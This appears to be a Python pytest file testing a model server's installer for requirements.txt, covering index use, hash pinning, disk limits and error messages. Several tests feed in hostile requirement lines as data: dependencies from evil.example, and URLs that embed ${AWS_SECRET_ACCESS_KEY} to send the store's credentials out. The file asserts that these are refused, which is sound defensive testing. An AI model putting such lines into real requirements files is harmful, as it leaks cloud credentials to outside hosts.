"""A model's requirements.txt, installed by the real pip from a package index on this machine."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from server.download.by_urls import PYTHON
from server.errors import OWN_FAULT

from .package_index import PackageIndex, package_index

KEYS = {"AWS_ACCESS_KEY_ID": "AKIDOFTHESTORE", "AWS_SECRET_ACCESS_KEY": "secretofthestore"}


@pytest.fixture
def index(tmp_path: Path) -> Iterator[PackageIndex]:
    with package_index(tmp_path / "index") as made:
        yield made


@dataclass
class Folder:
    """A model's folder as the download leaves it, and the folder of its packages."""

    root: Path
    message: str = ""
    code: int = 0

    def install(self, requirements: str, *, resolved: str = "", **env: str) -> str:
        """Return the reason of the failure, or "". `message` is what a success reports."""
        model, message = self.root / "model", self.root / "message"
        model.mkdir(exist_ok=True)
        for name, text in (("requirements.txt", requirements), ("resolved.txt", resolved)):
            (model / name).unlink(missing_ok=True)
            if text:
                (model / name).write_text(text)
        message.write_text("")
        before = {path: path.stat().st_mtime_ns for path in (model, *model.iterdir())}
        plain = {key: value for key, value in os.environ.items() if not key.lower().endswith("_proxy")}
        environment = {**plain, **KEYS, "KUBESERVE_TERMINATION_LOG": str(message), **env}
        command = [sys.executable, "-m", "server.install", "--model", str(model), "--to", str(self.packages)]
        done = subprocess.run(command, env=environment, capture_output=True, text=True, check=False, timeout=120)
        assert "Traceback" not in done.stderr, done.stderr
        assert "pass$word" not in done.stderr
        assert before == {path: path.stat().st_mtime_ns for path in (model, *model.iterdir())}
        self.code, self.message = done.returncode, message.read_text()
        return "" if done.returncode == 0 else self.message

    @property
    def packages(self) -> Path:
        return self.root / "packages"


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path)


def test_requirements_come_with_what_they_need_from_the_operators_index(folder: Folder, index: PackageIndex) -> None:
    index.wheel("needed")
    index.wheel("wanted", "needed>=1")
    assert folder.install("Wanted==1.0  # the model needs it\n", KUBESERVE_PIP_INDEX_URL=index.url) == ""
    assert (folder.packages / "wanted.py").exists()
    assert (folder.packages / "needed.py").exists()
    assert json.loads(folder.message) == {"packages": "needed==1.0 wanted==1.0", "python": PYTHON}


def test_requirements_that_are_not_there_install_nothing(folder: Folder, index: PackageIndex) -> None:
    assert folder.install("", KUBESERVE_PIP_INDEX_URL=index.url) == folder.message == ""
    assert index.asked == []


def test_requirements_of_a_later_pod_get_the_versions_of_the_first(folder: Folder, index: PackageIndex) -> None:
    env = {"KUBESERVE_PIP_INDEX_URL": index.url}
    index.wheel("needed")
    index.wheel("wanted", "needed")
    assert folder.install("wanted\n", **env) == ""
    first = folder.message
    index.wheel("needed", version="2.0")
    index.wheel("wanted", "needed", version="2.0")
    assert folder.install("wanted\n", **env) == ""
    assert json.loads(folder.message)["packages"] == "needed==2.0 wanted==2.0"
    assert folder.install("wanted\n", resolved=json.loads(first)["packages"].replace(" ", "\n"), **env) == ""
    assert folder.message == first


def test_requirements_whose_resolved_versions_are_gone_are_no_fault_of_the_version(
    folder: Folder, index: PackageIndex
) -> None:
    index.wheel("wanted", version="2.0")
    reason = folder.install("wanted\n", resolved="wanted==1.0\n", KUBESERVE_PIP_INDEX_URL=index.url)
    assert "an earlier pod of this version had them, and each has to get the same: to resolve anew, upload" in reason
    assert folder.code == 1
    assert not (folder.packages / "wanted.py").exists()


@pytest.mark.parametrize("text", ["wanted @ http://evil.example/x", "--index-url http://evil.example/"])
def test_resolved_versions_are_read_as_strictly(folder: Folder, index: PackageIndex, text: str) -> None:
    index.wheel("wanted")
    reason = folder.install("wanted\n", resolved=text, KUBESERVE_PIP_INDEX_URL=index.url)
    assert reason == "resolved.txt is not what the watcher writes: delete the pod"
    assert index.asked == []


def test_requirements_that_the_operator_does_not_permit_ask_no_index(folder: Folder, index: PackageIndex) -> None:
    env = {"KUBESERVE_PIP_INDEX_URL": index.url}
    digest = index.wheel("wanted")
    assert "not permitted" in folder.install("wanted\n", KUBESERVE_REQUIREMENTS="off", **env)
    assert folder.code == OWN_FAULT
    assert "a --hash are needed" in folder.install("wanted==1.0\n", KUBESERVE_REQUIREMENTS="hashed", **env)
    assert index.asked == []
    line = f"wanted==1.0 --hash=sha256:{digest}\n"
    assert folder.install(line, KUBESERVE_REQUIREMENTS="hashed", **env) == ""


def test_packages_of_an_earlier_attempt_are_removed(folder: Folder, index: PackageIndex) -> None:
    index.wheel("wanted")
    (folder.packages / "old").mkdir(parents=True)
    (folder.packages / "old.py").touch()
    (folder.packages / "link").symlink_to(folder.root)
    assert folder.install("wanted\n", KUBESERVE_PIP_INDEX_URL=index.url) == ""
    assert sorted(path.name for path in folder.packages.iterdir() if path.suffix == ".py") == ["wanted.py"]
    assert not (folder.packages / "old").exists()
    assert not (folder.packages / "link").is_symlink()


def test_requirements_pip_settings_of_the_machine_do_not_change_the_index(folder: Folder, index: PackageIndex) -> None:
    index.wheel("wanted")
    elsewhere = {
        "PIP_INDEX_URL": "http://127.0.0.1:1/",
        "PIP_NO_INDEX": "1",
        "HOME": "/nowhere",
        "PYTHONPATH": "/nowhere",
    }
    del elsewhere["PYTHONPATH"]
    assert folder.install("wanted\n", KUBESERVE_PIP_INDEX_URL=index.url, **elsewhere) == ""


def test_requirements_with_the_right_hash_are_installed_and_with_another_refused(
    folder: Folder, index: PackageIndex
) -> None:
    digest = index.wheel("wanted")
    env = {"KUBESERVE_PIP_INDEX_URL": index.url}
    assert "another hash than its --hash" in folder.install(f"wanted==1.0 --hash=sha256:{'a' * 64}\n", **env)
    assert not folder.packages.exists()
    assert folder.install(f"wanted==1.0 \\\n    --hash=sha256:{digest}\n", **env) == ""


def test_requirements_with_hashes_need_one_for_each_dependency(folder: Folder, index: PackageIndex) -> None:
    index.wheel("needed")
    digest = index.wheel("wanted", "needed")
    reason = folder.install(f"wanted==1.0 --hash=sha256:{digest}\n", KUBESERVE_PIP_INDEX_URL=index.url)
    assert "a dependency is not listed with its --hash" in reason


def test_requirements_that_exist_as_source_only_are_not_built(folder: Folder, index: PackageIndex) -> None:
    index.source("wanted")
    reason = folder.install("wanted\n", KUBESERVE_PIP_INDEX_URL=index.url)
    assert "wanted has no wheel on the package index, only source code, which is not built here" in reason


@pytest.mark.parametrize(
    ("requirements", "env", "cause"),
    [
        ("missing\n", {}, "the package index has no package named missing"),
        ("wanted==9\n", {}, "the package index has no version of wanted that fits for Python 3."),
        ("wanted\n", {"KUBESERVE_PIP_INDEX_URL": "http://127.0.0.1:1/"}, "refuses the connection"),
        ("wanted\n", {"KUBESERVE_PIP_INDEX_URL": "https://index.invalid/"}, "cannot be resolved (DNS)"),
        ("wanted\n", {"HTTP_PROXY": "http://127.0.0.1:1"}, "the proxy (HTTPS_PROXY) fails"),
        ("wanted\n", {"KUBESERVE_PIP_INDEX_URL": "index.example"}, "KUBESERVE_PIP_INDEX_URL: expected a URL"),
        ("wanted\n", {"KUBESERVE_PIP_CERT": "/missing.pem"}, "KUBESERVE_PIP_CERT: /missing.pem cannot be read"),
    ],
)
def test_requirements_that_cannot_be_installed_say_why(
    folder: Folder, index: PackageIndex, requirements: str, env: dict[str, str], cause: str
) -> None:
    index.wheel("wanted")
    assert cause in folder.install(requirements, **{"KUBESERVE_PIP_INDEX_URL": index.url, **env})


def test_requirements_above_the_disk_limit_are_stopped_and_leave_nothing(
    folder: Folder, index: PackageIndex, tmp_path: Path
) -> None:
    index.wheel("wanted")
    env = {"KUBESERVE_PIP_INDEX_URL": index.url, "TMPDIR": str(tmp_path / "tmp")}
    (tmp_path / "tmp").mkdir()
    reason = folder.install("wanted\n", KUBESERVE_DISK_LIMIT="8192", **env)
    assert reason.startswith(
        "requirements.txt cannot be installed: the model and its packages need more than the 8 KiB"
    )
    assert list((tmp_path / "tmp").iterdir()) == []
    assert folder.install("wanted\n", KUBESERVE_DISK_LIMIT="100M", **env) == ""


def test_requirements_that_would_send_the_stores_keys_away_reach_nobody(folder: Folder, index: PackageIndex) -> None:
    url = f"http://{index.address}"
    for line in (
        f"x @ {url}/${{AWS_SECRET_ACCESS_KEY}}/x.whl",
        f"--index-url {url}/${{AWS_SECRET_ACCESS_KEY}}\nx",
        f"x --config-settings={url}",
        f"-r {url}/more.txt",
        "x==${AWS_SECRET_ACCESS_KEY}",
    ):
        reason = folder.install(line + "\n", KUBESERVE_PIP_INDEX_URL=index.url)
        assert reason.startswith("requirements.txt, line 1")
        assert index.address not in reason
        assert "secretofthestore" not in reason
    assert index.asked == []
